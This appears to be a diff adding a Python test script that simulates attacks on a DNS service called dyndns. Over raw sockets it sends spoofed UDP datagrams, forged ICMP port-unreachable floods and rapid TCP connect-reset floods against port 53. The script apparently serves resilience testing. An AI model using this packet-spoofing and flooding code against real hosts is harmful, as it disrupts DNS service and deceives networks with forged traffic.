@@ -1,0 +1,79 @@
+"""attack.py JOB ARGS...: what somebody off the path, or a client without manners, sends to dyndns.
+
+    stray FROM TO            a datagram from FROM's address and port 53 to each port of TO that is over 1023
+    icmp FROM TO RATE SECONDS   forged port-unreachables: TO is told that FROM's port 53 is closed, for ports at random
+    knock FROM TO RATE SECONDS  TCP connections from FROM to port 53 of TO, each given up at once
+Prints how many were sent.  Addresses are IPv4; raw sockets need root.
+"""
+import random
+import socket
+import struct
+import sys
+import time
+
+
+def checksum(data):
+    total = sum(struct.unpack(">%dH" % (len(data) // 2), data))
+    total = (total & 0xffff) + (total >> 16)
+    return ~(total + (total >> 16)) & 0xffff
+
+
+def ip(source, to, protocol, body):
+    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 0, 0, 64, protocol, 0, source, to)
+    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + body
+
+
+def raw():
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
+    return s
+
+
+def paced(rate, seconds, act):
+    start, sent = time.monotonic(), 0
+    while (now := time.monotonic() - start) < seconds:
+        while sent < rate * now:
+            act()
+            sent += 1
+        time.sleep(0.001)
+    return sent
+
+
+def stray(source, to):
+    s, message = raw(), b"\xab\xcd\x81\x80" + bytes(8)
+    for port in range(1024, 65536):
+        udp = struct.pack(">HHHH", 53, port, 8 + len(message), 0) + message
+        s.sendto(ip(socket.inet_aton(source), socket.inet_aton(to), 17, udp), (to, 0))
+        if port % 64 == 0:
+            time.sleep(0.001)
+    return 65536 - 1024
+
+
+def icmp(source, to, rate, seconds):
+    s, server, us = raw(), socket.inet_aton(source), socket.inet_aton(to)
+
+    def act():
+        udp = struct.pack(">HHHH", random.randrange(1024, 65536), 53, 40, 0)
+        body = struct.pack(">BBHI", 3, 3, 0, 0) + ip(us, server, 17, udp)
+        body = body[:2] + struct.pack(">H", checksum(body)) + body[4:]
+        s.sendto(ip(server, us, 1, body), (to, 0))
+    return paced(float(rate), float(seconds), act)
+
+
+def knock(source, to, rate, seconds):
+    def act():
+        s = socket.socket()
+        s.setblocking(False)
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+        s.bind((source, 0))
+        try:
+            s.connect((to, 53))
+        except BlockingIOError:
+            pass
+        except OSError:
+            pass
+        s.close()
+    return paced(float(rate), float(seconds), act)
+
+
+print(globals()[sys.argv[1]](*sys.argv[2:]))
